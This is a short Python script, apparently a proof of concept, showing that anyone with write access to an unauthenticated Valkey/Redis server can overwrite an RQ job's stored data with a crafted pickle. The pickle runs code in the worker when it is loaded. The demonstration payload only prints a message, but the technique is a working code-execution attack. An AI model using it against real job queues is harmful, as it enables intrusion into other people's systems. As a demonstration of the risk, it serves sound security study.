"""Whoever can write into Valkey can run code in a worker of RQ."""

import pickle
import zlib

from redis import Redis
from rq import Queue

redis = Redis(port=6379)
job = Queue(connection=redis).enqueue(print, "order 7: charged")


# All that follows could be anybody's program: there is no password.
class Code:
    def __reduce__(self) -> tuple:
        """Say what is called when this is unpickled."""
        return print, ("code: this is no job of the shop",)


data = zlib.compress(pickle.dumps(Code()))
redis.hset(job.key, "data", data)  # in place of the order
